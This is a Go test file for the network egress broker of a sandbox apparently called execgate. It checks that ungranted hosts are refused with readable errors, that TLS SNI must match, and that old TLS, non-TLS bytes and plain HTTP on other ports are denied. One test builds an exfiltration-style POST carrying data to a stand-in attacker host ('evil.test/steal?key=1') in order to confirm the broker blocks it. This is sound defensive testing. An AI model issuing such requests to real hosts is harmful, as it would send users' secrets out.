package egress

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/execgate/execgate/execution"
)

// A name that no rule opens is refused in words, and never looked up.
func TestDenialIsReadable(t *testing.T) {
	queries := []string{}
	s := newSandbox(t, Config{Resolver: asked{loopback, &queries}}, nil)
	for _, http2 := range []bool{false, true} {
		res, body := s.do(s.client(http2), request(t, "POST", "https://evil.test/steal?key=1", "data"))
		want := problem{
			Type: problemType + "network-not-granted", Title: "Forbidden", Status: 403, Code: codeNotGranted,
			Detail: "execgate: " + answers[codeNotGranted].detail, Host: "evil.test", Port: 443, Method: "POST", Path: "/steal",
		}
		if diff := cmp.Diff(want, problemIn(t, res, body)); diff != "" {
			t.Error(diff)
		}
	}
	res, body := s.do(s.client(false), request(t, "GET", "http://evil.test/", ""))
	if p := problemIn(t, res, body); p.Code != codeNotGranted || p.Port != 80 {
		t.Errorf("%+v", p)
	}
	if len(queries) > 0 || len(s.requests()) > 0 {
		t.Errorf("looked up %v, received %v", queries, s.requests())
	}
	if diff := cmp.Diff(slices.Repeat([]string{"deny " + codeNotGranted}, 3), s.log.codes()); diff != "" {
		t.Error(diff)
	}
}

// A name is to be found where any rule is for it, at whatever port; that it is not is a
// refusal in the log.
func TestFind(t *testing.T) {
	s := newSandbox(t, Config{}, nil)
	s.job.Grant.Network.Rules = append(s.job.Grant.Network.Rules, execution.NetworkRule{Host: "*.below.test", Ports: []int{1}, Mode: execution.NetworkTunnel})
	for _, c := range []struct {
		name  string
		found bool
	}{{"api.test", true}, {"x.below.test", true}, {"below.test", false}, {"evil.test", false}, {"xapi.test", false}, {"127.0.0.1", false}, {"a_b-.test", false}} {
		if found := s.broker.Find(t.Context(), &s.job, c.name); found != c.found {
			t.Errorf("%s: %v", c.name, found)
		}
	}
	var refused []string
	for _, r := range s.log.all() {
		d := r.EgressDecided
		refused = append(refused, fmt.Sprintf("%s %s:%d %s", d.Effect, d.Host, d.Port, d.Code))
	}
	want := []string{
		"deny below.test:0 " + codeNotGranted, "deny evil.test:0 " + codeNotGranted, "deny xapi.test:0 " + codeNotGranted,
		"deny 127.0.0.1:0 " + codeHostIsAddress, "deny a_b-.test:0 " + codeHostInvalid,
	}
	if diff := cmp.Diff(want, refused); diff != "" {
		t.Error(diff)
	}
	over, end := context.WithCancel(t.Context())
	end()
	if s.broker.Find(over, &s.job, "api.test") {
		t.Error("it is found after the end")
	}
	if used := s.broker.End(s.job.ID); used.Requests != 0 {
		t.Errorf("names cost %d requests", used.Requests)
	}
}

// A connection on which all is refused is not kept for another request.
func TestDenialIsTheEnd(t *testing.T) {
	lengthening(t, 50*time.Millisecond, func(t testing.TB, wait time.Duration) {
		s := newSandbox(t, Config{}, nil)
		s.broker.explainWait = wait
		c := s.dial(execution.Destination{Host: "evil.test", Port: 80})
		write(t, c, "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
		if got := readAll(t, c); !strings.Contains(got, codeNotGranted) {
			t.Errorf("answered: %s", got)
		}
	})
}

// A protocol in which the server speaks first is not kept waiting for a refusal.
func TestDenialOfASilentProgram(t *testing.T) {
	s := newSandbox(t, Config{}, nil)
	s.broker.explainWait = 10 * time.Millisecond
	if got := readAll(t, s.dial(execution.Destination{Host: "mysql.test", Port: 3306})); got != "" {
		t.Errorf("the program reads %q", got)
	}
	s.carries.Wait()
	if diff := cmp.Diff([]string{"deny " + codeNotGranted}, s.log.codes()); diff != "" {
		t.Error(diff)
	}
}

// Without an authority there is no TLS to end, and a refusal is the end.
func TestSandboxWithoutAuthority(t *testing.T) {
	s := newSandbox(t, Config{}, nil)
	config := s.trust("api.test")
	s.authority = nil
	c := tls.Client(s.dial(s.to), config)
	if err := c.Handshake(); err == nil {
		t.Error("there was a handshake")
	}
	if got := readAll(t, s.dial(execution.Destination{Host: "evil.test", Port: 80})); got != "" {
		t.Errorf("read %q", got)
	}
	s.carries.Wait()
	if diff := cmp.Diff([]string{"deny " + codeUnsupported, "deny " + codeNotGranted}, s.log.codes()); diff != "" {
		t.Error(diff)
	}
}

func TestHandshakeNamesTheDestination(t *testing.T) {
	s := newSandbox(t, Config{}, nil)
	for _, tt := range []struct{ sni, code string }{{"evil.test", codeSNIMismatch}, {"", codeSNIMissing}, {"api.test", ""}} {
		config := s.trust(tt.sni)
		config.InsecureSkipVerify = tt.sni == "" // there is nothing to verify by
		c := tls.Client(s.dial(s.to), config)
		write(t, c, "GET / HTTP/1.1\r\nHost: "+s.authorityOf()+"\r\nConnection: close\r\n\r\n")
		if got := readAll(t, c); strings.Contains(got, `"code":"`+tt.code+`"`) == (tt.code == "") {
			t.Errorf("%q: %s", tt.sni, got)
		}
		c.Close()
	}
	if got := len(s.requests()); got != 1 {
		t.Errorf("%d requests were received", got)
	}
}

// Old versions of TLS are not spoken with programs either.
func TestProgramOfAnOldTLS(t *testing.T) {
	s := newSandbox(t, Config{}, nil)
	config := s.trust("api.test", "http/1.1")
	config.MinVersion, config.MaxVersion = tls.VersionTLS10, tls.VersionTLS11
	if err := tls.Client(s.dial(s.to), config).Handshake(); err == nil {
		t.Error("there was a handshake")
	}
	s.carries.Wait()
	if diff := cmp.Diff([]string{"deny " + codeTLSFailed}, s.log.codes()); diff != "" {
		t.Error(diff)
	}
}

func TestWhatIsNotTLSEnds(t *testing.T) {
	s := newSandbox(t, Config{}, nil)
	for _, text := range []string{"\x00\x01binary", "ssh-2.0", "\x16\x03\x01\x00\x05hello", "\x80\x2e\x01\x03\x01"} {
		c := s.dial(s.to)
		write(t, c, text)
		_ = c.CloseWrite()
		if got := readAll(t, c); strings.Contains(got, "HTTP") {
			t.Errorf("%q: %q", text, got)
		}
	}
	s.carries.Wait()
	if diff := cmp.Diff([]string{"deny not_tls", "deny not_tls", "deny not_tls", "deny tls_failed"}, slices.Sorted(slices.Values(s.log.codes()))); diff != "" {
		t.Error(diff)
	}
}

func TestPlainHTTPIsForItsPortOnly(t *testing.T) {
	s := newSandbox(t, Config{}, nil)
	l, to := listen(t)
	serve(t, l, func(c *net.TCPConn) {
		buffer := make([]byte, 4096)
		n, _ := c.Read(buffer)
		write(t, c, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", n, buffer[:n]))
	})
	s.to.Port, s.rule().Ports = to.Port, []int{to.Port}
	url := fmt.Sprintf("http://api.test:%d/x?y", to.Port)
	res, body := s.do(s.client(false), request(t, "GET", url, ""))
	if p := problemIn(t, res, body); p.Code != codeTLSRequired {
		t.Errorf("%+v", p)
	}
	s.broker.plainPort = to.Port
	c := s.dial(s.to)
	write(t, c, fmt.Sprintf("GET /x?y HTTP/1.1\r\nHost: api.test:%d\r\nConnection: close\r\n\r\n", to.Port))
	if got := readAll(t, c); !strings.HasPrefix(got, "HTTP/1.1 200") || !strings.Contains(got, "GET /x?y HTTP/1.1\r\nHost: api.test:") {
		t.Errorf("answered: %s", got)
	}
}
